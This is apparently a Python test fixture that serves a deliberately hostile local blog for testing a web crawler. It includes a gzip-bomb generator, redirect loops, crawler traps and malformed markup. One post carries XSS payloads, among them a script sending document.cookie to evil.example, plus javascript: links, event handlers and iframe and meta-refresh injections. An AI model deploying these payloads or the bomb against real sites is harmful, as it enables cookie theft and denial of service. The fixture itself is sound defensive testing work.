"""A small hostile blog on 127.0.0.1: bombs, huge and binary bodies, traps, loops and script-laden posts.

The site is reached as http://localhost:PORT (a name, so an upper-case host variant exists); the same
server under http://127.0.0.1:PORT counts as another host, so any request for it shows in the log.
With `hostile=False` the start page links only to the well-behaved part of the blog.
"""

from __future__ import annotations

import functools
import re
import struct
import threading
import time
import zlib
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, replace
from typing import Self
from urllib.parse import urlsplit

from crawler.replica.loopback import LoopbackHandler, LoopbackHTTPServer, LoopbackServer

HTML = "text/html; charset=utf-8"
OFFSITE_TARGET = "http://example.invalid/landing/"  # .invalid never resolves (RFC 2606)
BOMB_COMPRESSED_BYTES = 10 * 1024 * 1024  # inflates to about 10 GB
HUGE_PAGE_BYTES = 30 * 1024 * 1024
CHUNK = 1 << 20
CALENDAR_START = (2026, 11)
HOLD_TIMEOUT = 20.0  # seconds a held answer waits for its event: only reached when a test's order was not forced

# The well-behaved blog.
GOOD_POSTS = ("/2026/01/15/strong-knees/", "/2026/01/22/steady-hips/")
GOOD_LISTINGS = ("/2026/01/", "/category/exercise/", "/tag/knees/")

# Hostile cases, by name: the path the start page links to.
CASES = {
    "gzip_bomb": "/bomb/",
    "huge_page": "/huge/",
    "binary_as_html": "/downloads/report/",
    "windows_1252_meta_charset": "/2026/02/05/cafe-notes/",
    "windows_1252_http_equiv": "/2026/02/06/resume-notes/",
    "redirect_loop": "/loop-a/",
    "redirect_to_self": "/loop-self/",
    "redirect_offsite": "/go/offsite/",
    "redirect_other_host": "/go/other-host/",
    "endless_calendar": "/calendar/2026/11/",
    "query_trap": "/events/?month=2026-12",
    "malformed_html": "/2026/02/10/broken-markup/",
    "script_laden_post": "/2026/02/12/hostile-markup/",
    "tracking_variants": "/share-links/",
    "png": "/media/photo/",
    "pdf": "/downloads/brochure/",
    "octet_stream": "/downloads/blob/",
}
LOOP_B = "/loop-b/"
# Links only found inside bodies the crawler must not parse: never to be requested.
CANARIES = ("/bomb-leak/", "/huge-leak/", "/binary-leak/")
CALENDAR_PATH = re.compile(r"^/calendar/(\d+)/(\d{2})/$")

WINDOWS_1252_TITLE = "\u201cKnee\u201d caf\u00e9 notes \u2014 part 1"
WINDOWS_1252_TEXT = (
    "Our caf\u00e9\u2019s \u201cquiet\u201d corner \u2014 a r\u00e9sum\u00e9 of the week\u2019s stretches."
)
HTTP_EQUIV_TITLE = "R\u00e9sum\u00e9 \u2014 \u201cholds\u201d that na\u00efve knees need"
HTTP_EQUIV_TEXT = "Hold each stretch \u2014 \u201cgently\u201d \u2014 for 30 seconds; the na\u00efve rush is the enemy."
MALFORMED_TITLE = "Broken markup survives"
MALFORMED_TEXT = "still readable after the garbage"
SCRIPTED_TITLE = "Hostile markup is defused"
SCRIPTED_TEXT = "Stretch slowly and breathe"
# What posts.body_html must never hold (compared lower-cased).
FORBIDDEN_IN_BODY_HTML = (
    "<script", "onerror", "onclick", "onload", "onmouseover", "javascript:", "<style", "<iframe",
    "<svg", "<object", "<embed", "<form", "<meta", "<base",
)  # fmt: skip


@dataclass(slots=True)
class Request:
    """One request the hostile site received (status filled in once the route has answered)."""

    method: str
    path: str  # path and query, as requested
    host: str  # the Host header
    time: float
    status: int | None = None


@dataclass(frozen=True, slots=True)
class Response:
    """What a route answers: status, headers and the body (bytes, or chunks to stream)."""

    status: int
    headers: dict[str, str]
    body: bytes | Callable[[], Iterable[bytes]] = b""


# --- bodies ---------------------------------------------------------------------------------


def _crc32_shift(crc: int, length: int) -> int:
    """The CRC-32 register after `length` zero bytes more (zlib's crc32_combine operator, by squaring)."""

    def times(matrix: list[int], vector: int) -> int:
        total, row = 0, 0
        while vector:
            if vector & 1:
                total ^= matrix[row]
            vector >>= 1
            row += 1
        return total

    def square(matrix: list[int]) -> list[int]:
        return [times(matrix, column) for column in matrix]

    odd = [0xEDB88320] + [1 << bit for bit in range(31)]  # one zero bit
    even = square(odd)  # two zero bits
    odd = square(even)  # four zero bits
    while length:
        even = square(odd)
        if length & 1:
            crc = times(even, crc)
        length >>= 1
        if not length:
            break
        odd = square(even)
        if length & 1:
            crc = times(odd, crc)
        length >>= 1
    return crc


def crc32_combine(crc1: int, crc2: int, length2: int) -> int:
    """CRC-32 of A + B from crc(A), crc(B) and len(B)."""
    return _crc32_shift(crc1, length2) ^ crc2


BOMB_PREFIX = (
    b"<!DOCTYPE html><html><head><title>bomb</title></head><body>"
    b'<a href="/bomb-leak/">read me and you inflated the bomb</a>'
)


@functools.cache
def gzip_bomb(compressed_bytes: int = BOMB_COMPRESSED_BYTES) -> tuple[bytes, int]:
    """A valid gzip member of about `compressed_bytes` that inflates to ~1000x as many bytes, and that size.

    HTML (with a canary link) then spaces. Deflate of a run of spaces reaches a steady state: after one
    sync-flushed MiB, every further MiB compresses to the same ~1 KB, so the stream is built by repeating
    that block (no need to push 10 GB through zlib), and the trailer's CRC is combined arithmetically.
    """
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    spaces = b" " * CHUNK
    first = compressor.compress(BOMB_PREFIX + spaces) + compressor.flush(zlib.Z_SYNC_FLUSH)
    block = compressor.compress(spaces) + compressor.flush(zlib.Z_SYNC_FLUSH)
    repeats = max(1, (compressed_bytes - len(first)) // len(block))
    ending = zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)  # an empty final block
    size = len(BOMB_PREFIX) + CHUNK * (repeats + 1)
    block_crc = zlib.crc32(spaces)
    crc = zlib.crc32(BOMB_PREFIX + spaces)
    run_crc, run_length, count = block_crc, CHUNK, repeats  # crc of 2^k blocks, doubled as we go
    while count:
        if count & 1:
            crc = crc32_combine(crc, run_crc, run_length)
        run_crc = crc32_combine(run_crc, run_crc, run_length)
        run_length *= 2
        count >>= 1
    header = b"\x1f\x8b\x08\x00" + b"\x00\x00\x00\x00" + b"\x02\xff"
    trailer = struct.pack("<II", crc & 0xFFFFFFFF, size & 0xFFFFFFFF)
    return b"".join([header, first, block * repeats, ending, trailer]), size


def huge_page_chunks(total: int = HUGE_PAGE_BYTES) -> Iterator[bytes]:
    """A 30 MB HTML page, streamed: a canary link first, then paragraphs of filler."""
    head = b'<!DOCTYPE html><html><head><title>huge</title></head><body><a href="/huge-leak/">leak</a>\n'
    yield head
    paragraph = b"<p>" + b"filler text that goes on and on " * 30 + b"</p>\n"
    block = paragraph * (CHUNK // len(paragraph))
    sent = len(head)
    while sent < total:
        yield block
        sent += len(block)
    yield b"</body></html>\n"


def binary_body() -> bytes:
    """A PNG-like binary blob full of NUL bytes, with a link in it that only a parser would find."""
    noise = bytes(range(256)) * 64
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + noise + b'<a href="/binary-leak/">leak</a>' + b"\x00" * 4096 + noise


def png_bytes() -> bytes:
    """A valid 1x1 PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x80\x00")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def pdf_bytes() -> bytes:
    """A minimal one-page PDF, binary comment line included."""
    return (
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )


# --- pages ----------------------------------------------------------------------------------


def head(base_url: str, path: str, title: str, published: str | None = None, charset: str = "utf-8") -> str:
    """A WordPress-like <head>."""
    published_meta = f'<meta property="article:published_time" content="{published}">' if published else ""
    return (
        f'<!DOCTYPE html>\n<html lang="en"><head><meta charset="{charset}"><title>{title} - Hostile Blog</title>'
        f'<link rel="canonical" href="{base_url}{path}">{published_meta}</head>\n'
    )


ARCHIVE_WIDGET = (
    '<aside class="widget widget_archive"><h3>Archive</h3><ul>'
    '<li><a href="/2026/01/">January 2026</a>&nbsp;(2)</li></ul></aside>'
)


def good_post(base_url: str, path: str) -> str:
    """One of the two well-behaved posts: categories, tags, an image, related links and the Archive widget."""
    first = path == GOOD_POSTS[0]
    post_id, title = (1, "Strong knees for the stairs") if first else (2, "Steady hips for the trail")
    published = "2026-01-15T09:00:00+00:00" if first else "2026-01-22T09:00:00+00:00"
    other = GOOD_POSTS[1] if first else GOOD_POSTS[0]
    other_title = "Steady hips for the trail" if first else "Strong knees for the stairs"
    return (
        head(base_url, path, title, published)
        + f'<body class="post-template-default single single-post postid-{post_id}"><main>'
        f'<article class="post-{post_id} post hentry"><h1 class="entry-title">{title}</h1>'
        f'<time class="published" datetime="{published}">January 2026</time>'
        '<span class="author vcard"><span class="fn">Dr. Sample</span></span>'
        '<div class="entry-content">'
        f"<p>{title} starts with a slow warm-up. Keep the movement small and even.</p>"
        f'<p><img src="/wp-content/uploads/2026/01/post-{post_id}.jpg" alt="Exercise {post_id}" width="300"></p>'
        "<p>Hold for 10 seconds, then relax. Repeat 10 times on each side.</p>"
        "</div>"
        '<footer><a href="/category/exercise/" rel="category tag">Exercise</a> '
        '<a href="/tag/knees/" rel="tag">knees</a></footer>'
        f'<div class="related_posts"><h5>You might also like</h5><div class="relThumb">'
        f'<a href="{other}"><strong class="av-related-title">{other_title}</strong></a></div></div>'
        "</article></main>"
        f'<aside id="sidebar">{ARCHIVE_WIDGET}</aside>'
        '<footer id="footer"><a href="/blog/">Blog</a></footer></body></html>\n'
    )


def listing(base_url: str, path: str, title: str, body_class: str) -> str:
    """A listing page (blog index, month, category, tag) of the two good posts."""
    items = "".join(
        f'<article class="post hentry"><h2 class="entry-title"><a href="{post}" rel="bookmark">{name}</a></h2></article>'
        for post, name in zip(GOOD_POSTS, ("Strong knees for the stairs", "Steady hips for the trail"), strict=True)
    )
    return (
        head(base_url, path, title) + f'<body class="{body_class}"><main><h1>{title}</h1>{items}</main>'
        f'<aside id="sidebar">{ARCHIVE_WIDGET}</aside></body></html>\n'
    )


def start_page(base_url: str, hostile: bool) -> str:
    """The blog index: the good posts, and with `hostile` a link to every hostile case."""
    page = listing(base_url, "/blog/", "Blog", "blog")
    if not hostile:
        return page
    cases = "".join(f'<li><a href="{path}">{name}</a></li>' for name, path in CASES.items())
    return page.replace("</main>", f'<ul class="cases">{cases}</ul></main>')


def windows_1252_post(base_url: str, path: str, http_equiv: bool) -> bytes:
    """A post in windows-1252 whose only charset declaration is in the markup (meta charset or http-equiv)."""
    title, text, post_id = (
        (HTTP_EQUIV_TITLE, HTTP_EQUIV_TEXT, 4) if http_equiv else (WINDOWS_1252_TITLE, WINDOWS_1252_TEXT, 3)
    )
    declaration = (
        '<meta http-equiv="Content-Type" content="text/html; charset=windows-1252">'
        if http_equiv
        else '<meta charset="windows-1252">'
    )
    published = "2026-02-06T09:00:00+00:00" if http_equiv else "2026-02-05T09:00:00+00:00"
    page = (
        f"<!DOCTYPE html>\n<html><head>{declaration}<title>{title}</title>"
        f'<link rel="canonical" href="{base_url}{path}">'
        f'<meta property="article:published_time" content="{published}"></head>\n'
        f'<body class="single single-post postid-{post_id}"><main><article class="hentry">'
        f'<h1 class="entry-title">{title}</h1><div class="entry-content"><p>{text}</p></div>'
        "</article></main></body></html>\n"
    )
    return page.encode("cp1252")


def malformed_post(base_url: str, path: str) -> bytes:
    """A post with unclosed tags, broken nesting, stray end tags, bytes that are not UTF-8 and a 3000-deep nest."""
    page = (
        head(base_url, path, MALFORMED_TITLE, "2026-02-10T09:00:00+00:00")
        + '<body class="single single-post postid-5"><main><article class="hentry">'
        f'<h1 class="entry-title">{MALFORMED_TITLE}</h1>'
        '<div class="entry-content"><p>First <b>bold <i>crossed</b> italics</i> and <p>an unclosed paragraph'
        "<table><tr><td>cell one<td>cell two</tr></table></tbody></span>"
        "<a href=/2026/01/15/strong-knees/ title=unquoted>link</a> "
    ).encode()
    garbage = b"\xff\xfe\xc3\x28\xa0\xa1\xe2\x28\xa1\xf0\x28\x8c\xbc \x80\x81\xfe"
    tail = (
        f"<p>{MALFORMED_TEXT}</p><li><li><ul><li>lists</ol></div></div>"
        + "<div>" * 3000
        + "deep"
        + "</span>" * 10
        + "</article><!-- a comment never closed <p>"
    ).encode()
    return page + garbage + tail


def scripted_post(base_url: str, path: str) -> str:
    """A post whose body carries every way to run script or restyle the page."""
    return (
        head(base_url, path, SCRIPTED_TITLE, "2026-02-12T09:00:00+00:00")
        + '<body class="single single-post postid-6" onload="steal()"><main><article class="hentry">'
        f'<h1 class="entry-title">{SCRIPTED_TITLE}</h1><div class="entry-content">'
        f"<p>{SCRIPTED_TEXT}.</p>"
        "<script>document.location='http://evil.example/?c='+document.cookie</script>"
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"
        '<img src="/nowhere.png" onerror="alert(1)" alt="broken on purpose">'
        '<p onclick="alert(2)" onmouseover="alert(3)">Click-free paragraph.</p>'
        '<a href="javascript:alert(4)">a javascript link</a> '
        '<a href=" JaVaScRiPt:alert(5)">mixed case</a> '
        '<a href="java&#x09;script:alert(6)">entity-split</a> '
        f'<a href="{GOOD_POSTS[0]}" onclick="track()">a real link</a>'
        "<style>body { display: none }</style>"
        '<iframe src="http://evil.example/frame"></iframe>'
        '<svg onload="alert(7)"><circle r="1"/></svg>'
        '<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/y.swf">'
        '<form action="javascript:alert(8)"><input name="q"></form>'
        '<meta http-equiv="refresh" content="0;url=http://evil.example/"><base href="http://evil.example/">'
        "<p>Breathe out as you lift.</p>"
        "</div></article></main></body></html>\n"
    )


def tracking_page(base_url: str) -> str:
    """Links to pages the start page already links to, dressed as tracking, fragment and host-case variants."""
    upper_host = base_url.replace("localhost", "LOCALHOST")
    variants = [
        f"{GOOD_POSTS[0]}?utm_source=x&utm_medium=email",
        f"{GOOD_POSTS[0]}#comments",
        f"{upper_host}{GOOD_POSTS[0]}",
        f"{GOOD_POSTS[1]}?replytocom=5#respond",
        f"{upper_host.replace('http://', 'HTTP://')}{GOOD_POSTS[1]}",
        "/blog/?utm_campaign=spring",
    ]
    links = "".join(f'<li><a href="{url}">variant {n}</a></li>' for n, url in enumerate(variants, 1))
    return (
        head(base_url, "/share-links/", "Share links")
        + f'<body class="page"><main><ul>{links}</ul></main></body></html>\n'
    )


def tracking_variants(base_url: str) -> list[str]:
    """The absolute variant URLs the tracking page links to (for assertions)."""
    return re.findall(r'href="([^"]+)"', tracking_page(base_url))[1:]  # [0] is the canonical link


def calendar_month(year: int, month: int, delta: int) -> tuple[int, int]:
    """The month `delta` months after year-month."""
    index = year * 12 + (month - 1) + delta
    return index // 12, index % 12 + 1


def calendar_page(base_url: str, year: int, month: int) -> str:
    """One month of an endless calendar: next and previous month, and query-string views of both."""
    (py, pm), (ny, nm) = calendar_month(year, month, -1), calendar_month(year, month, 1)
    links = (
        f'<a href="/calendar/{py}/{pm:02d}/">previous</a> <a href="/calendar/{ny}/{nm:02d}/">next</a> '
        f'<a href="/events/?month={py}-{pm:02d}">events before</a> <a href="/events/?month={ny}-{nm:02d}">events after</a> '
        f'<a href="/calendar/{year}/{month:02d}/?view=week">week view</a>'
    )
    path = f"/calendar/{year}/{month:02d}/"
    return head(base_url, path, f"Calendar {year}-{month:02d}") + f"<body><main>{links}</main></body></html>\n"


def not_found(path: str) -> Response:
    """A WordPress-like 404 page."""
    body = f"<!DOCTYPE html><html><head><title>Not found</title></head><body class='error404'>{path}</body></html>"
    return Response(404, {"Content-Type": HTML}, body.encode())


# --- routing --------------------------------------------------------------------------------


def route(site: HostileSite, target: str) -> Response:
    """What the hostile site answers for a request target (path and query)."""
    base = site.base_url
    path = urlsplit(target).path

    def html(text: str | bytes, content_type: str = HTML) -> Response:
        return Response(200, {"Content-Type": content_type}, text.encode() if isinstance(text, str) else text)

    def redirect(status: int, location: str) -> Response:
        return Response(status, {"Location": location, "Content-Type": HTML}, b"<html><body>moved</body></html>")

    if path == "/robots.txt":
        return Response(200, {"Content-Type": "text/plain"}, b"User-agent: *\nAllow: /\n")
    if path == "/blog/":
        return html(start_page(base, site.hostile))
    if path in GOOD_POSTS:
        return html(good_post(base, path))
    if path == "/2026/01/":
        return html(listing(base, path, "January 2026", "archive date"))
    if path == "/category/exercise/":
        return html(listing(base, path, "Exercise", "archive category"))
    if path == "/tag/knees/":
        return html(listing(base, path, "knees", "archive tag"))
    if not site.hostile:
        return not_found(path)
    if path == CASES["gzip_bomb"]:
        bomb, _size = gzip_bomb(site.bomb_bytes)
        return Response(200, {"Content-Type": HTML, "Content-Encoding": "gzip", "Content-Length": str(len(bomb))}, bomb)
    if path == CASES["huge_page"]:
        return Response(
            200, {"Content-Type": HTML, "Connection": "close"}, huge_page_chunks
        )  # no length: read to close
    if path == CASES["binary_as_html"]:
        return html(binary_body(), "text/html")
    if path == CASES["windows_1252_meta_charset"]:
        return html(windows_1252_post(base, path, http_equiv=False), "text/html")
    if path == CASES["windows_1252_http_equiv"]:
        return html(windows_1252_post(base, path, http_equiv=True), "text/html")
    if path == CASES["redirect_loop"]:
        return redirect(301, LOOP_B)
    if path == LOOP_B:
        return redirect(302, f"{base}{CASES['redirect_loop']}")
    if path == CASES["redirect_to_self"]:
        return redirect(302, f"{path}?utm_source=loop#again")
    if path == CASES["redirect_offsite"]:
        return redirect(302, OFFSITE_TARGET)
    if path == CASES["redirect_other_host"]:
        return redirect(302, f"{site.other_host_url}/blog/")
    if match := CALENDAR_PATH.match(path):
        return html(calendar_page(base, int(match[1]), int(match[2])))
    if path == "/events/":
        return html(head(base, path, "Events") + "<body><p>events</p></body></html>")
    if path == CASES["malformed_html"]:
        return html(malformed_post(base, path))
    if path == CASES["script_laden_post"]:
        return html(scripted_post(base, path))
    if path == CASES["tracking_variants"]:
        return html(tracking_page(base))
    if path == CASES["png"]:
        return html(png_bytes(), "image/png")
    if path == CASES["pdf"]:
        return html(pdf_bytes(), "application/pdf")
    if path == CASES["octet_stream"]:
        return html(bytes(range(256)) * 16, "application/octet-stream")
    return not_found(path)


class _Handler(LoopbackHandler):
    """Answers one connection's requests from the HostileSite that owns the server."""

    server: LoopbackHTTPServer[HostileSite]

    def answer(self, with_body: bool) -> None:
        """Log the request, then send the route's response (streamed bodies chunk by chunk)."""
        site = self.server.owner
        request = site._log_request(self.command, self.path, self.headers.get("Host", ""))
        site._wait_if_held(self.path)
        response = route(site, self.path)
        site._log_status(request, response.status)
        self.send_response(response.status)
        streamed = callable(response.body)
        for name, value in response.headers.items():
            self.send_header(name, value)
        if not streamed and "Content-Length" not in response.headers:
            assert isinstance(response.body, bytes)
            self.send_header("Content-Length", str(len(response.body)))
        self.end_headers()
        if streamed:
            self.close_connection = True
        if not with_body:
            return
        try:
            if callable(response.body):
                for chunk in response.body():
                    self.wfile.write(chunk)
            else:
                view = memoryview(response.body)
                for start in range(0, len(view), CHUNK):
                    self.wfile.write(view[start : start + CHUNK])
        except (BrokenPipeError, ConnectionResetError):
            self.close_connection = True  # the crawler stopped reading: exactly what a bound does


class HostileSite(LoopbackServer):
    """Serves the hostile blog on a free loopback port in a daemon thread; `hostile` can change while it runs."""

    handler = _Handler

    def __init__(self, *, hostile: bool = True, bomb_bytes: int = BOMB_COMPRESSED_BYTES) -> None:
        super().__init__()
        self.hostile = hostile
        self.bomb_bytes = bomb_bytes
        self._log: list[Request] = []
        self._lock = threading.Lock()
        self._holds: dict[str, threading.Event] = {}
        self.hold_timeouts: list[str] = []  # held paths answered because HOLD_TIMEOUT passed, not their event

    def start(self) -> Self:
        """Build the bomb before the first request asks for it, then serve."""
        gzip_bomb(self.bomb_bytes)
        return super().start()

    @property
    def base_url(self) -> str:
        """http://localhost:PORT, the site's own origin."""
        return f"http://localhost:{self.port}"

    @property
    def other_host_url(self) -> str:
        """http://127.0.0.1:PORT: the same server under another host name, so out of the crawl's scope."""
        return f"http://127.0.0.1:{self.port}"

    @property
    def start_url(self) -> str:
        """Where a crawl starts: the blog index."""
        return self.url("/blog/")

    @property
    def requests(self) -> list[Request]:
        """A copy of the request log, oldest first."""
        with self._lock:
            return [replace(request) for request in self._log]

    def clear_log(self) -> None:
        """Empty the request log."""
        with self._lock:
            self._log.clear()

    def requested_paths(self) -> list[str]:
        """Every path (and query) requested, in order."""
        return [request.path for request in self.requests]

    def hold(self, path: str, until: threading.Event) -> None:
        """Answer `path` only once `until` is set: forces the order in which concurrent responses arrive."""
        self._holds[path] = until

    def _wait_if_held(self, path: str) -> None:
        """Wait for a held path's event (at most HOLD_TIMEOUT, noted in hold_timeouts)."""
        event = self._holds.get(path)
        if event is not None and not event.wait(HOLD_TIMEOUT):
            with self._lock:
                self.hold_timeouts.append(path)

    def _log_request(self, method: str, path: str, host: str) -> Request:
        """Record a request on arrival."""
        request = Request(method, path, host, time.monotonic())
        with self._lock:
            self._log.append(request)
        return request

    def _log_status(self, request: Request, status: int) -> None:
        """Record the status sent for a logged request."""
        with self._lock:
            request.status = status
